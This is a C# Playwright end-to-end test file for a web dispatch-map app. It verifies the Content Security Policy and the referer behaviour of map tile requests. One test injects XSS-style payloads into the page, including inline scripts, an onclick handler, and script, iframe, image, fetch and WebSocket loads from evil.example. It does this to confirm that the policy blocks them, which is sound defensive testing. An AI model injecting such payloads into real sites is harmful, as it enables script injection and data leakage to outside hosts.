using Microsoft.Playwright;

namespace DispatchMap.Tests.EndToEnd;

/// <summary>The pages do all they can do, and the browser finds nothing to object to.</summary>
public sealed class ContentPolicyTests(Chromium chromium)
{
    private const string Tiles = "http://tiles.test/{z}/{x}/{y}.png";

    [Theory]
    [InlineData(ColorScheme.Light)]
    [InlineData(ColorScheme.Dark)]
    public async Task Pages_EverythingOpened_ViolateNothing(ColorScheme scheme)
    {
        await using var app = DeskApp.WithDemo(null, ("DispatchMap:Map:TileUrl", Tiles));
        await using var desk = await OpenAsync(app, scheme);
        await desk.UntilPhaseAsync("live");
        await Assertions.Expect(desk.Page.Locator(".leaflet-tile-loaded").First).ToBeAttachedAsync();

        foreach (var theme in (string[])["Dark", "Light", "System"])
        {
            await desk.Page.GetByTestId("theme-menu").ClickAsync();
            await desk.Page.GetByText(theme, new() { Exact = true }).ClickAsync();
            await Assertions.Expect(desk.Page.Locator("drop-menu")).ToHaveCountAsync(0);
        }
        await desk.Page.GetByTestId("group-filter").ClickAsync();
        await Assertions.Expect(desk.Page.Locator("drop-menu")).ToBeVisibleAsync();
        await desk.Page.Keyboard.PressAsync("Escape");
        await Assertions.Expect(desk.Page.Locator("drop-menu")).ToHaveCountAsync(0);
        await desk.Page.GetByRole(AriaRole.Button, new() { Name = "Keys", Exact = true }).ClickAsync();
        await desk.Page.Locator("#key-sheet [data-close]").ClickAsync();
        await Assertions.Expect(desk.Page.GetByRole(AriaRole.Dialog)).ToHaveCountAsync(0);
        await desk.Page.GetByTestId("vehicle-row").First.ClickAsync();
        await Assertions.Expect(desk.Page.GetByTestId("vehicle-card")).ToBeVisibleAsync();
        await desk.Page.GetByRole(AriaRole.Link, new() { Name = "Feeds" }).ClickAsync();
        await Assertions.Expect(desk.Page.GetByTestId("feed")).ToHaveAttributeAsync("data-phase", "live");

        await desk.Page.GetByRole(AriaRole.Link, new() { Name = "Settings" }).ClickAsync();
        await desk.Page.GetByTestId("settings-people").ClickAsync();
        await desk.Page.GetByTestId("invite").ClickAsync();
        await Assertions.Expect(desk.Page.GetByRole(AriaRole.Dialog)).ToBeVisibleAsync();

        Assert.Empty(await ViolationsAsync(desk));
        Assert.Empty(desk.Complaints);
        // MudBlazor's theme has arrived: without it, its dialogs have no colours.
        Assert.NotEqual("", await desk.Page.EvaluateAsync<string>("() => getComputedStyle(document.documentElement).getPropertyValue('--mud-palette-primary')"));
    }

    [Fact]
    public async Task Page_WhatAnAttackerWouldTry_IsBlocked()
    {
        await using var app = DeskApp.WithDemo();
        await using var desk = await OpenAsync(app, ColorScheme.Light);
        await desk.UntilPhaseAsync("live");

        await desk.Page.EvaluateAsync("""
            async () => {
              const add = (name, fill) => { const made = document.createElement(name); fill(made); document.body.append(made); };
              add('script', made => made.textContent = 'window.pwned = 1');
              add('script', made => made.src = 'https://evil.example/x.js');
              add('style', made => made.textContent = 'body { display: none }');
              add('div', made => made.innerHTML = '<b onclick="window.pwned = 1">x</b>');
              document.querySelector('b[onclick]').click();
              add('iframe', made => made.src = 'https://evil.example/');
              add('img', made => made.src = 'https://evil.example/?leak');
              await fetch('https://evil.example/').catch(() => {});
              // In a turn of its own: what the test itself runs may evaluate.
              setTimeout(() => { new Function('window.pwned = 1')(); });
              try { new WebSocket('wss://evil.example/'); } catch { }
            }
            """);
        await desk.Page.WaitForFunctionAsync("() => new Set(window.violations.map(v => v.split(' ')[0])).size >= 7");

        Assert.False(await desk.Page.EvaluateAsync<bool>("() => 'pwned' in window"));
        var directives = (await ViolationsAsync(desk)).Select(line => line.Split(' ')[0]).Distinct().Order();
        Assert.Equal(["connect-src", "frame-src", "img-src", "script-src", "script-src-attr", "script-src-elem", "style-src-elem"], directives);
    }

    [Fact]
    public async Task Tiles_Request_SaysWhichSiteAndNotWhichView()
    {
        await using var app = DeskApp.WithDemo(null, ("DispatchMap:Map:TileUrl", Tiles));
        await using var desk = await DeskPage.OpenAsync(chromium, new("about:blank"), signIn: false);
        var asked = new TaskCompletionSource<string?>(TaskCreationOptions.RunContinuationsAsynchronously);
        await desk.Page.RouteAsync("http://tiles.test/**", async route =>
        {
            asked.TrySetResult(await route.Request.HeaderValueAsync("referer"));
            await route.AbortAsync();
        });
        await desk.Page.GotoAsync(new Uri(app.Address, "/?sel=1&q=secret").ToString());
        await desk.SignInAsync(DeskApp.AdminEmail, DeskApp.AdminPassword);

        Assert.Equal(app.Address.GetLeftPart(UriPartial.Authority) + "/", await asked.Task.Soon());
    }

    private async Task<DeskPage> OpenAsync(DeskApp app, ColorScheme scheme)
    {
        var desk = await DeskPage.OpenAsync(chromium, new("about:blank"), signIn: false);
        await desk.Page.EmulateMediaAsync(new() { ColorScheme = scheme });
        await desk.Page.RouteAsync("http://tiles.test/**", route => route.FulfillAsync(new() { ContentType = "image/png", BodyBytes = Pixel }));
        await desk.Page.AddInitScriptAsync("""
            window.violations = [];
            addEventListener('securitypolicyviolation', e => window.violations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile} ${e.sample}`));
            """);
        await desk.Page.GotoAsync(app.Address.ToString());
        await Assertions.Expect(desk.Page.GetByLabel("Password")).ToBeVisibleAsync();
        Assert.Empty(await ViolationsAsync(desk));
        await desk.SignInAsync(DeskApp.AdminEmail, DeskApp.AdminPassword);
        return desk;
    }

    private static Task<string[]> ViolationsAsync(DeskPage desk) => desk.Page.EvaluateAsync<string[]>("() => window.violations");

    /// <summary>A transparent pixel.</summary>
    private static byte[] Pixel { get; } = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==");
}
